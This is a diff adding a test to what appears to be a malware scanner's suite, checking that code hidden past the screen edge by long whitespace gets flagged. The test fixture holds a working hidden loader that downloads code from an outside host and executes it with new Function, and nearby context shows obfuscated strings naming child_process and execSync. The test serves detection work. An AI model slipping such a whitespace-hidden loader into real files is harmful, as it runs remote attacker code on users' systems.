@@ -635,6 +635,15 @@ describe('commands received over a connection (remote-access trojans)', () => {
 });
 
 describe('obfuscated-code', () => {
+  it('code pushed past the edge of the screen by a run of spaces is hidden, weighed more when it loads code (PolinRider); an aligned comment or deep indentation is not', () => {
+    const pad = ' '.repeat(260);
+    const r = scan({ 'index.js': `module.exports = {\n  theme: { extend: {} },\n};${pad}global['r']=require;(function(){var h=global['r']('https');h.get('https://cdn-static-tw.com/p',function(s){var b='';s.on('data',function(c){b+=c});s.on('end',function(){new Function('require',b)(global['r'])})})})();\n` }, { main: 'index.js' });
+    expect(r.findings.find((f) => f.messageId === 'pastEdge')?.data).toMatchObject({ spaces: 260, line: 3 });
+    expect(r.level).toMatch(/high|critical/);
+    const quiet = scan({ 'index.js': `const a = 1;${' '.repeat(150)}// aligned note\n${' '.repeat(160)}deep(1);\nmodule.exports = a;\n` }, { main: 'index.js' });
+    expect(quiet.ids).not.toContain('obfuscated-code/pastEdge');
+  });
+
   const stringArray = ['child_process', 'execSync', 'hostname', 'https'].map((s) => `'${s}'`).join(',');
   const obfuscated = `function _0x1a2b(){var _0x3c4d=[${stringArray}];_0x1a2b=function(){return _0x3c4d;};return _0x1a2b();}
 (function(_0x5e6f,_0x7a8b){var _0x9c0d=_0x5e6f();while(!![]){try{var _0x1e2f=parseInt(_0x3a4b(0x0))/0x1;if(_0x1e2f===_0x7a8b)break;else _0x9c0d['push'](_0x9c0d['shift']());}catch(_0x4f5a){_0x9c0d['push'](_0x9c0d['shift']());}}}(_0x1a2b,0x1));
